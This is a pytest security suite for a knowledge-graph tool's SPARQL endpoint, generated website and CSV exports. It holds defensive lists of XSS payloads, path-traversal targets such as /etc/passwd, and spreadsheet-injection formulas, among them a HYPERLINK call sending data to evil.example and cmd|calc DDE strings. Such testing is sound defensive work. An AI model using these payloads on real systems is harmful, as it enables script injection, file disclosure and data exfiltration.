"""Security: the endpoint on a real build, and the site with hostile text in every field.

tests/test_endpoint.py already checks the protocol, the refusal of updates, LOAD and SERVICE,
the time-out, the result limit and the common path-traversal forms on a small fixture store.
This file adds what that leaves open, on a real build of the corpus:

* the default listening address (no ``--host``) is loopback only, read from /proc/net/tcp*;
* no query makes the server contact another host (a local listener counts connections):
  SERVICE in every position, FROM / FROM NAMED with a remote IRI, an update hidden after a query;
* slow query shapes other than the cross product, several at once, and the server answers after;
* the result cap for DESCRIBE, oversized requests (413/414);
* more traversal forms: absolute paths, absolute-form request targets, overlong UTF-8, mixed
  encodings, a symlink placed in the *generated* site, hidden files;
* a corpus where every free-text field of a case, an organisation, an actor, a concept and a
  source holds HTML/JS payloads, rendered by `pav-graph site` and opened in real Chromium:
  ``window.__pwned`` stays undefined on every page (both languages), in the graph tooltips and in
  the search results, and the payload is shown as text.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from pathlib import Path

import pytest
import yaml
from w3c_protocol import free_port

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]

PAYLOADS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '"><svg onload="window.__pwned=1">',
    "</script><script>window.__pwned=1</script>",
    "javascript:window.__pwned=1",
    "'><iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<a href=\"javascript:window.__pwned=1\">klik</a>",
]
ALL = " ".join(PAYLOADS)
SECRET = "OUTSIDE-THE-SITE-7f3a"

# The registered fixture source: a Dutch sentence, then each payload on its own line, so quotes
# of payloads verify like any other quote (lines 2..8 hold PAYLOADS[0..6]).
SOURCE_TEXT = "Een rapport over een gemeente waarin het volgende stond.\n" + "\n".join(PAYLOADS) + "\n"


def _ev(i: int) -> dict:
    return {"source": "xss-bron", "lines": i + 2, "quote": PAYLOADS[i]}


def _lang(n: int) -> dict:
    return {"nl": f"{PAYLOADS[n % 7]} nl {n}", "en": f"{PAYLOADS[(n + 1) % 7]} en {n}"}


def _first(kinds: dict, kind: str) -> str:
    return min(kinds[kind])


def hostile_corpus(dest: Path) -> None:
    """Copy the corpus and add a source, a concept and a case full of payloads."""
    for name in ("cases", "ontology", "sources", "queries"):
        shutil.copytree(ROOT / name, dest / name)
    (dest / "sources" / "texts" / "xss-bron.txt").write_text(SOURCE_TEXT, encoding="utf-8")
    (dest / "sources" / "xss-bron.yaml").write_text(yaml.safe_dump({
        "id": "xss-bron", "text": "texts/xss-bron.txt", "type": "report", "title": ALL,
        "authors": [PAYLOADS[1], PAYLOADS[2]], "year": 2024, "publisher": PAYLOADS[3],
        "language": "nl", "description": {"nl": ALL, "en": ALL},
    }, allow_unicode=True), encoding="utf-8")
    (dest / "ontology" / "concepts" / "xss.yaml").write_text(yaml.safe_dump({"concepts": [{
        "id": "xss-begrip", "kind": "risk-factor", "label": _lang(0), "definition": _lang(1),
        "alt_labels": {"nl": [PAYLOADS[4]], "en": [PAYLOADS[5]]},
        "source": "xss-bron", "lines": 2, "quote": PAYLOADS[0],
    }]}, allow_unicode=True), encoding="utf-8")
    kinds: dict[str, list[str]] = {}
    for f in (dest / "ontology" / "concepts").glob("*.yaml"):
        for c in yaml.safe_load(f.read_text(encoding="utf-8"))["concepts"]:
            kinds.setdefault(c["kind"], []).append(c["id"])
    case = {
        "id": "xss-casus", "label": _lang(2), "summary": _lang(3),
        "period": {"start": "2024", "note": ALL}, "source_types": ["report"],
        "organisations": [{"id": "gemeente-xss", "name": ALL, "level": "gemeente"}],
        "actors": [
            {"id": "a", "role": _first(kinds, "role"), "organisation": "gemeente-xss",
             "label": _lang(4)},
            {"id": "b", "role": _first(kinds, "role"), "organisation": "gemeente-xss",
             "label": _lang(5)},
        ],
        "findings": [
            {"concept": "xss-begrip", "evidence": [_ev(i) for i in range(7)], "note": ALL,
             "measure": {"value": 1, "unit": PAYLOADS[6]}},
        ],
        "relations": [{"type": _first(kinds, "relation-type"), "from": "a", "to": "b",
                       "evidence": [_ev(1)], "note": ALL}],
        "interventions": [{"concept": _first(kinds, "intervention"), "status": "applied",
                           "outcome": _lang(6), "evidence": [_ev(2)], "note": ALL}],
        "events": [{"date": "2024-05", "type": _first(kinds, "event-type"), "label": _lang(0),
                    "actors": ["a", "b"], "reason": _lang(1), "evidence": [_ev(3)]}],
    }
    (dest / "cases" / "xss-casus.yaml").write_text(
        yaml.safe_dump(case, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _pav(corpus: Path, build: Path, *args: str, timeout: float = 600) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(ROOT), PAV_GRAPH_BUILD=str(build))
    env.pop("PAV_GRAPH_CORPUS", None)
    return subprocess.run([sys.executable, "-m", "pav_graph", "--corpus", str(corpus), *args],
                          env=env, cwd=corpus, capture_output=True, text=True, timeout=timeout,
                          check=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict:
    """The hostile corpus, validated, built, and written as a site (plus a secret next to it)."""
    root = tmp_path_factory.mktemp("hostile")
    corpus, build, site = root / "corpus", root / "build", root / "site"
    hostile_corpus(corpus)
    run = _pav(corpus, build, "validate")
    assert run.returncode == 0, run.stdout + run.stderr
    if not (ROOT / "pav_graph" / "site" / "__init__.py").exists():
        pytest.skip("pav_graph.site is not there yet")
    run = _pav(corpus, build, "site", str(site))
    assert run.returncode == 0, run.stdout + run.stderr
    (root / "secret.txt").write_text(SECRET, encoding="utf-8")
    return {"root": root, "corpus": corpus, "build": build, "site": site}


# --------------------------------------------------------------------------- the endpoint


class Listener:
    """A TCP listener on loopback that counts every connection (a stand-in for 'elsewhere')."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self.running = True
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.hits += 1
            conn.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def server(hostile):
    """`pav-graph serve` with its defaults for the address, a short time-out and a small cap."""
    port = free_port()
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    env.pop("PAV_GRAPH_CORPUS", None)
    log = open(hostile["root"] / "serve.log", "wb")  # noqa: SIM115 - closed below
    proc = subprocess.Popen(
        [sys.executable, "-m", "pav_graph", "serve", "--build-dir", str(hostile["build"]),
         "--site", str(hostile["site"]), "--port", str(port), "--timeout", "1.5",
         "--limit", "50", "--workers", "2"], env=env, cwd=hostile["root"], stdout=log,
        stderr=subprocess.STDOUT)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        assert proc.poll() is None, (hostile["root"] / "serve.log").read_text()
        try:
            if get(port, "/sparql?query=" + urllib.parse.quote("ASK {}"))[0] == 200:
                break
        except OSError:
            time.sleep(0.2)
    yield {"port": port, "pid": proc.pid, **hostile}
    proc.terminate()
    proc.wait(15)
    log.close()


def request(port: int, method: str, target: str, body: bytes | None = None,
            headers: dict | None = None) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    try:
        conn.putrequest(method, target, skip_host=False, skip_accept_encoding=True)
        for k, v in (headers or {}).items():
            conn.putheader(k, v)
        if body is not None:
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        resp = conn.getresponse()
        return resp.status, resp.read()
    finally:
        conn.close()


def get(port: int, target: str) -> tuple[int, bytes]:
    return request(port, "GET", target)


def query(port: int, text: str, accept: str = "application/sparql-results+json") -> tuple[int, bytes]:
    return request(port, "POST", "/sparql", text.encode(),
                   {"Content-Type": "application/sparql-query", "Accept": accept})


def _listening(port: int) -> list[str]:
    """Local addresses of LISTEN sockets on ``port`` (from /proc/net/tcp and tcp6)."""
    found = []
    for name in ("tcp", "tcp6"):
        path = Path("/proc/net") / name
        if not path.exists():
            continue
        for line in path.read_text().splitlines()[1:]:
            fields = line.split()
            addr, hexport = fields[1].split(":")
            if int(hexport, 16) == port and fields[3] == "0A":
                found.append(addr)
    return found


def test_listens_on_loopback_only_by_default(server):
    addrs = _listening(server["port"])
    assert addrs == ["0100007F"], addrs  # 127.0.0.1, little-endian hex; nothing on 0.0.0.0 or ::


def test_no_query_reaches_another_host(server):
    count = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
    before = json.loads(query(server["port"], count)[1])["results"]["bindings"][0]["n"]["value"]
    listener = Listener()
    far = f"http://127.0.0.1:{listener.port}"
    try:
        refused = [
            f"SELECT * WHERE {{ SERVICE <{far}/sparql> {{ ?s ?p ?o }} }}",
            f"SELECT * WHERE {{ ?s ?p ?o FILTER EXISTS {{ SERVICE <{far}/> {{ ?s ?p ?o }} }} }}",
            f"SELECT * WHERE {{ {{ SELECT * WHERE {{ SERVICE <{far}/> {{ ?a ?b ?c }} }} }} }}",
            f"CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE <{far}/> {{ ?s ?p ?o }} }}",
            f"ASK {{ SERVICE#comment\n<{far}/> {{ ?s ?p ?o }} }}",
            f"SELECT * WHERE {{ sErViCe\tSILENT\n<{far}/> {{ ?s ?p ?o }} }}",
            f"SELECT * WHERE {{ VALUES ?e {{ <{far}/> }} SERVICE ?e {{ ?s ?p ?o }} }}",
            f"SELECT * WHERE {{ ?s ?p ?o }} ; LOAD <{far}/data.ttl>",
            f"LOAD <{far}/data.ttl>",
            "SELECT * WHERE {} INSERT DATA { <urn:a> <urn:b> <urn:c> }",
        ]
        for text in refused:
            status, body = query(server["port"], text)
            assert status in (400, 403), (text, status, body)
        # FROM / FROM NAMED name graphs of the local store; they are never fetched
        for text in (f"SELECT * FROM <{far}/g.ttl> WHERE {{ ?s ?p ?o }} LIMIT 1",
                     f"SELECT * FROM NAMED <{far}/g.ttl> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}",
                     f"DESCRIBE <{far}/thing>"):
            status, body = query(server["port"], text, "text/turtle" if "DESCRIBE" in text
                                 else "application/sparql-results+json")
            assert status == 200, (text, body)
        status, body = get(server["port"], "/sparql?query=" + urllib.parse.quote("ASK {}")
                           + "&default-graph-uri=" + urllib.parse.quote(far + "/g", safe=""))
        assert status == 200
        time.sleep(0.5)
        assert listener.hits == 0
    finally:
        listener.close()
    after = json.loads(query(server["port"], count)[1])["results"]["bindings"][0]["n"]["value"]
    assert after == before  # nothing was added


@pytest.mark.parametrize("slow", [
    # property path closure in both directions over every predicate, then counted twice over
    "SELECT (COUNT(*) AS ?n) WHERE { ?a (<urn:x>|!<urn:x>)* ?b . ?c (<urn:x>|!<urn:x>)* ?d }",
    # regular expressions over the cross product of all literals
    "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?l . ?t ?q ?m FILTER(REGEX(CONCAT(STR(?l), STR(?m)), '(a|aa)+$')) }",
    # a cross product of the whole graph with itself, three times
    "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
])
def test_slow_query_shapes_are_cut_off(server, slow):
    started = time.monotonic()
    status, body = query(server["port"], slow)
    assert status == 503 and b"timed out" in body, (status, body[:200])
    assert time.monotonic() - started < 30
    assert query(server["port"], "ASK {}")[0] == 200


def test_more_slow_queries_than_workers(server):
    """Four slow queries at once on two workers: all are cut off; the endpoint answers after."""
    slow = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    results: list[int] = []
    threads = [threading.Thread(target=lambda: results.append(query(server["port"], slow)[0]))
               for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert results == [503] * 4
    for _ in range(3):
        assert query(server["port"], "ASK { ?s ?p ?o }")[0] == 200


def test_result_cap_covers_describe_and_every_format(server):
    describe = "PREFIX pg: <https://w3id.org/pav-graph/ontology#> DESCRIBE ?c WHERE { ?c a pg:Case }"
    assert query(server["port"], describe, "text/turtle")[0] == 422
    for accept in ("text/csv", "application/sparql-results+xml", "text/tab-separated-values"):
        status, body = query(server["port"], "SELECT * WHERE { ?s ?p ?o }", accept)
        assert status == 422 and b"more than 50" in body


def test_oversized_requests_are_refused(server):
    big = b"ASK {} #" + b"x" * (2 << 20)
    status, _ = request(server["port"], "POST", "/sparql", big,
                        {"Content-Type": "application/sparql-query"})
    assert status == 413
    status, _ = get(server["port"], "/sparql?query=" + "x" * 100_000)
    assert status in (400, 414, 431)
    assert query(server["port"], "ASK {}")[0] == 200


TRAVERSALS = [
    "/etc/passwd",
    "/%2Fetc%2Fpasswd",
    "//etc//passwd",
    "/..%2f..%2f..%2fsecret.txt",
    "/.%2e/secret.txt",
    "/%2e./secret.txt",
    "/cases/..%252f..%252fsecret.txt",
    "/%c0%ae%c0%ae/secret.txt",
    "/%ef%bc%8e%ef%bc%8e/secret.txt",
    "/cases/%2e%2e/%2e%2e/secret.txt",
    "http://127.0.0.1/../secret.txt",
    "/planted-link.txt",
    "/planted-dir/secret.txt",
    "/.hidden",
    "/assets/../../secret.txt",
]


@pytest.mark.parametrize("target", TRAVERSALS)
def test_no_file_outside_the_site_can_be_fetched(server, target):
    site, root = server["site"], server["root"]
    if not (site / "planted-link.txt").exists():
        # someone puts links into the generated site: they still may not lead out of it
        os.symlink(root / "secret.txt", site / "planted-link.txt")
        os.symlink(root, site / "planted-dir")
        (site / ".hidden").write_text(SECRET, encoding="utf-8")
    status, body = get(server["port"], target)
    assert 400 <= status < 500, (target, status)
    assert SECRET.encode() not in body and b"root:x:" not in body


def test_site_pages_are_served_with_nosniff(server):
    status, body = get(server["port"], "/cases/xss-casus.html")
    assert status == 200 and b"&lt;script&gt;window.__pwned=1&lt;/script&gt;" in body


# --------------------------------------------------------------------------- the site in Chromium


@pytest.fixture(scope="module")
def chromium():
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian chromium is not installed (apt-get install -y chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield browser
        browser.close()


def _watch(page, fired: list[str]) -> None:
    page.on("dialog", lambda d: (fired.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("request", lambda r: r.url.startswith("javascript:") and fired.append(r.url))


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["nl", "en"])
def test_payloads_stay_inert_on_every_page(hostile, chromium, lang):
    """Every page of the site, opened from disk, in both languages: no payload runs."""
    site = hostile["site"]
    context = chromium.new_context()
    context.add_init_script(f"localStorage.setItem('pav-graph-lang', '{lang}')")
    page = context.new_page()
    fired: list[str] = []
    _watch(page, fired)
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 300
    with_payload = 0
    for path in pages:
        page.goto(path.resolve().as_uri())
        page.wait_for_load_state("load")
        assert page.evaluate("window.__pwned") is None, path
        with_payload += "__pwned" in path.read_text(encoding="utf-8")
    assert with_payload >= 5  # the case, concept, source, index/list pages and the graph
    assert fired == []
    context.close()


@pytest.mark.browser
def test_payloads_are_shown_as_text(hostile, chromium):
    page = chromium.new_page()
    for rel in ("cases/xss-casus.html", "concepts/xss-begrip.html", "sources/xss-bron.html"):
        path = hostile["site"] / rel
        assert path.exists(), rel
        page.goto(path.resolve().as_uri())
        text = page.evaluate("document.body.innerText")
        assert PAYLOADS[0] in text or PAYLOADS[1] in text, rel
        assert page.evaluate("window.__pwned") is None
    page.goto((hostile["site"] / "cases" / "xss-casus.html").resolve().as_uri())
    text = page.evaluate("document.body.innerText")
    for payload in PAYLOADS:  # every quote is shown, verbatim, as text
        assert payload in text, payload
    assert page.locator("script:not([src]):not([type])").count() == page.evaluate(
        "document.querySelectorAll('script:not([src]):not([type])').length")
    assert page.locator("svg[onload], img[onerror], iframe").count() == 0
    page.close()


@pytest.mark.browser
def test_graph_labels_and_tooltips_are_inert(hostile, chromium):
    """Hover every node of the hostile case's graph: the tooltips show the payload as text."""
    page = chromium.new_page(viewport={"width": 1400, "height": 1000})
    page.goto((hostile["site"] / "cases" / "xss-casus.html").resolve().as_uri())
    page.wait_for_function("window.pgGraphs && window.pgGraphs.length && window.pgGraphs[0].ready")
    page.locator(".graph").first.scroll_into_view_if_needed()
    box = page.locator(".graph canvas").first.bounding_box()
    nodes = page.evaluate("""() => {
        const g = window.pgGraphs[0];
        return g.nodes.getIds().map(id => {
            const p = g.network.canvasToDOM(g.network.getPositions([id])[id]);
            return {id, x: p.x, y: p.y, on: g.network.getNodeAt(p) === id};
        }).filter(n => n.on);
    }""")
    assert nodes
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    shown: list[str] = []
    skipped: list[str] = []
    for n in nodes:
        page.mouse.move(box["x"] + n["x"], box["y"] + n["y"])
        try:
            page.wait_for_selector("div.vis-tooltip", state="visible", timeout=3000)
        except PlaywrightTimeout:  # a node under another: no tooltip of its own to check
            skipped.append(n["id"])
            continue
        shown.append(page.evaluate("document.querySelector('div.vis-tooltip').innerText"))
        page.mouse.move(0, 0)
        assert page.evaluate("window.__pwned") is None
    assert any("__pwned" in s for s in shown), (shown, skipped)  # hostile labels were hovered
    assert page.evaluate("document.querySelectorAll('div.vis-tooltip img, div.vis-tooltip svg,"
                         " div.vis-tooltip script').length") == 0
    page.evaluate("document.getElementById('lang-toggle') && document.getElementById('lang-toggle').click()")
    assert page.evaluate("window.__pwned") is None
    page.close()


@pytest.mark.browser
def test_search_results_are_inert(hostile, chromium):
    page = chromium.new_page()
    page.goto((hostile["site"] / "index.html").resolve().as_uri())
    box = page.locator("input[type=search]").first
    if not box.count():
        pytest.skip("the site has no search box on the home page")
    for term in ("pwned", "script", "onerror", "javascript"):
        box.fill(term)
        box.press("Enter")
        page.wait_for_timeout(200)
        assert page.evaluate("window.__pwned") is None, term
    assert "__pwned" in page.evaluate("document.body.innerText")
    page.close()


@pytest.mark.browser
def test_the_harness_sees_a_payload_that_runs(chromium, tmp_path):
    """Control: the same check catches an unescaped payload (so the tests above can fail)."""
    page = chromium.new_page()
    for n, payload in enumerate(PAYLOADS[:3]):
        control = tmp_path / f"control{n}.html"
        control.write_text(f"<!doctype html><body><div>{payload}</div></body>", encoding="utf-8")
        page.goto(control.resolve().as_uri())
        page.wait_for_function("window.__pwned === 1", timeout=5000)
    page.close()


# --------------------------------------------------------------------------- the terminal
#
# rich reads "[...]" in a string as markup: a label "[/x]" made `cases`, `case list` and
# `concepts` exit 70 (MarkupError), "[link=...]" became a clickable link, and `query` tables
# dropped "[sic]" from a verbatim quote. Data is printed as Text, never as markup.

MARKUP = [
    "[/x]",
    "[link=https://evil.example/]klik[/link]",
    "[bold red]vet[/]",
    "[sic]",
    "\\[al ontsnapt]",
    ":thumbs_up: :smile:",
    "[[dubbel]] [",
    "eindigt op \\",
]
MARKUP_TEXT = " ".join(MARKUP)
# Cells a spreadsheet would run as a formula (OWASP's CSV injection examples and variants):
# each is a line of the source, a quote of the case, and a label or name somewhere.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "a;=1+1;b",
    '"=1+1"',
    "'=1+1",
    "=",
]


def _both() -> dict:
    return {"nl": MARKUP_TEXT, "en": MARKUP_TEXT}


def markup_corpus(dest: Path) -> None:
    for name in ("cases", "ontology", "sources", "queries"):
        shutil.copytree(ROOT / name, dest / name)
    (dest / "sources" / "texts" / "haken.txt").write_text(
        "Een bron met haken.\n" + "\n".join(MARKUP + FORMULAS) + "\n", encoding="utf-8")
    (dest / "sources" / "haken.yaml").write_text(yaml.safe_dump({
        "id": "haken", "text": "texts/haken.txt", "type": "report", "title": MARKUP_TEXT,
        "year": 2024}, allow_unicode=True), encoding="utf-8")
    (dest / "ontology" / "concepts" / "haken.yaml").write_text(yaml.safe_dump({"concepts": [{
        "id": "haken-begrip", "kind": "risk-factor",
        "label": _both(),
        "definition": _both(), "source": "haken", "lines": 2}]},
        allow_unicode=True), encoding="utf-8")
    ev = [{"source": "haken", "lines": i + 2, "quote": m} for i, m in enumerate(MARKUP)]
    case = {"id": "haken-casus", "label": _both(),
            "summary": _both(),
            "period": {"start": "2024", "note": MARKUP_TEXT},
            "organisations": [{"id": "gemeente-haken", "name": MARKUP_TEXT, "level": "gemeente"}],
            "actors": [{"id": "a", "role": "gemeentesecretaris", "organisation": "gemeente-haken",
                        "label": _both()}],
            "findings": [{"concept": "haken-begrip", "evidence": ev, "note": MARKUP_TEXT}],
            "events": [{"date": "2024-05", "label": _both(),
                        "evidence": [dict(e) for e in ev[:2]]},
                       {"date": "2024-06", "label": {"nl": FORMULAS[0], "en": FORMULAS[3]},
                        "evidence": [{"source": "haken", "lines": len(MARKUP) + 2 + i,
                                      "quote": f} for i, f in enumerate(FORMULAS)]}]}
    case["organisations"].append({"id": "formule", "name": FORMULAS[2], "level": "niet-overheid"})
    (dest / "cases" / "haken-casus.yaml").write_text(
        yaml.safe_dump(case, allow_unicode=True, sort_keys=False), encoding="utf-8")
    formula = {"id": "formule-casus", "label": {"nl": FORMULAS[1], "en": FORMULAS[3]},
               "summary": {"nl": FORMULAS[0], "en": FORMULAS[2]},
               "organisations": [{"id": "formule", "name": FORMULAS[2], "level": "niet-overheid"}],
               "findings": [{"concept": "haken-begrip", "evidence": [
                   {"source": "haken", "lines": len(MARKUP) + 2, "quote": FORMULAS[0]}]}]}
    (dest / "cases" / "formule-casus.yaml").write_text(
        yaml.safe_dump(formula, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.fixture(scope="module")
def markup(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("markup")
    corpus, build = root / "corpus", root / "build"
    markup_corpus(corpus)
    run = _pav(corpus, build, "build", "-q", "--no-reason", "--no-shacl")
    assert run.returncode == 0, run.stdout + run.stderr
    return {"corpus": corpus, "build": build}


_SGR = __import__("re").compile(r"\x1b\[[0-9;]*m")


@pytest.mark.parametrize("args,shown", [
    (("cases",), [MARKUP_TEXT]),
    (("case", "list"), [MARKUP_TEXT]),
    (("concepts",), [MARKUP_TEXT]),
    (("show", "haken-casus"), MARKUP),
    (("show", "haken-casus", "--lang", "en"), MARKUP),
    (("query", "search-quotes", "--param", "text=sic"), ["[sic]"]),
    (("query", "search-quotes", "--param", "text=link"), [MARKUP[1]]),
    (("query", "case-findings", "--param", "case=haken-casus"), MARKUP),
    (("similar", "haken-casus"), []),
    (("patterns",), []),
], ids=lambda v: " ".join(v) if isinstance(v, tuple) else "")
@pytest.mark.parametrize("color", ["plain", "forced"])
def test_data_is_never_terminal_markup(markup, args, shown, color):
    """Each listing prints the bracketed text exactly, as plain output and as a colour
    terminal (FORCE_COLOR): no MarkupError, no hyperlink escape (OSC 8), no emoji."""
    env = dict(os.environ, PYTHONPATH=str(ROOT), PAV_GRAPH_BUILD=str(markup["build"]),
               COLUMNS="1000", LINES="100")
    env.pop("PAV_GRAPH_CORPUS", None)
    if color == "forced":
        env["FORCE_COLOR"] = "1"
    else:
        env.pop("FORCE_COLOR", None)
        env["NO_COLOR"] = "1"
    run = subprocess.run([sys.executable, "-m", "pav_graph", "--corpus", str(markup["corpus"]),
                          *args], env=env, capture_output=True, text=True, timeout=300,
                         check=False)
    out = run.stdout + run.stderr
    assert run.returncode == 0, out
    assert "Traceback" not in out and "internal error" not in out
    assert "\x1b]8;" not in out  # no terminal hyperlink
    assert "👍" not in out and "😄" not in out
    plain = _SGR.sub("", out)
    for text in shown:
        assert text in plain, (text, plain[-2000:])


# --------------------------------------------------------------------------- spreadsheets


def _formula_like(value: str) -> bool:
    """A spreadsheet would run this cell: it starts (after any quote characters, which a
    misaligned reader leaves in) with a formula character and is not a plain number."""
    from pav_graph.spreadsheet import FORMULA_START

    bare = value.lstrip('"')
    try:
        float(bare.rstrip('"'))
        return False
    except ValueError:
        return bool(bare) and bare[0] in FORMULA_START


def _cells(raw: bytes, delimiter: str) -> list[list[str]]:
    import csv
    import io

    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _assert_spreadsheet_safe(raw: bytes) -> list[list[str]]:
    """No cell runs as a formula: read with ',' (the file's delimiter), with ';' (what a Dutch
    spreadsheet splits on), or cut at every ',', ';' and line break of the raw text (any way
    a reader could misalign). Returns the rows with the exact text restored."""
    import re

    from pav_graph.spreadsheet import original

    for delimiter in (",", ";"):
        bad = [c for row in _cells(raw, delimiter) for c in row if _formula_like(c)]
        assert not bad, (delimiter, bad[:5])
    pieces = re.split(r"\r\n|[,;\n]", raw.decode("utf-8-sig"))
    bad = [p for p in pieces if _formula_like(p)]
    assert not bad, bad[:5]
    return [[original(c) for c in row] for row in _cells(raw, ",")]


def test_csv_export_neutralises_formulas(markup, tmp_path):
    out = tmp_path / "tables"
    run = _pav(markup["corpus"], markup["build"], "export", "--format", "csv", str(out))
    assert run.returncode == 0, run.stdout + run.stderr
    found: set[str] = set()
    for table in sorted(out.glob("*.csv")):
        found |= {c for row in _assert_spreadsheet_safe(table.read_bytes()) for c in row}
    assert set(FORMULAS) <= found  # every quote is there, exactly, once the mark is dropped
    assert {FORMULAS[0], FORMULAS[2]} <= found  # the event label, the organisation name
    # and as a researcher reads it: pandas, every cell a string, none a formula, exact text back
    import pandas as pd

    from pav_graph.spreadsheet import original

    seen: set[str] = set()
    for table in sorted(out.glob("*.csv")):
        frame = pd.read_csv(table, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        cells = [c for column in frame.columns for c in frame[column]]
        assert not [c for c in cells if _formula_like(c)], table.name
        seen |= {original(c) for c in cells}
    assert set(FORMULAS) <= seen


@pytest.mark.parametrize("args", [
    ("query", "search-quotes", "--param", "text=1+1", "--format", "csv"),
    ("query", "timeline", "--format", "csv"),
    ("cases", "--format", "csv"),
])
def test_query_csv_neutralises_formulas(markup, args):
    env = dict(os.environ, PYTHONPATH=str(ROOT), PAV_GRAPH_BUILD=str(markup["build"]))
    env.pop("PAV_GRAPH_CORPUS", None)
    run = subprocess.run([sys.executable, "-m", "pav_graph", "--corpus", str(markup["corpus"]),
                          *args], env=env, capture_output=True, timeout=300, check=False)
    assert run.returncode == 0, run.stderr
    rows = _assert_spreadsheet_safe(run.stdout)
    values = {c for row in rows for c in row}
    if "search-quotes" in args:
        assert {f for f in FORMULAS if "1+1" in f} <= values
    elif "timeline" in args:
        assert FORMULAS[0] in values
    else:
        assert {FORMULAS[1], FORMULAS[3]} <= values  # the labels


def test_endpoint_csv_stays_exact(markup):
    """The endpoint's text/csv is the W3C SPARQL 1.1 CSV results format: exact, no marks."""
    import csv
    import io

    port = free_port()
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    proc = subprocess.Popen([sys.executable, "-m", "pav_graph", "serve", "--build-dir",
                             str(markup["build"]), "--port", str(port)],
                            env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        text = ("PREFIX pg: <https://w3id.org/pav-graph/ontology#> "
                "SELECT ?q WHERE { ?e pg:quote ?q } ORDER BY ?q")
        deadline = time.monotonic() + 60
        while True:
            try:
                status, body = query(port, text, "text/csv")
                break
            except OSError:
                assert time.monotonic() < deadline and proc.poll() is None
                time.sleep(0.3)
        assert status == 200
        values = {row[0] for row in csv.reader(io.StringIO(body.decode("utf-8"), newline=""))}
        assert set(FORMULAS) <= values
    finally:
        proc.terminate()
        proc.wait(15)
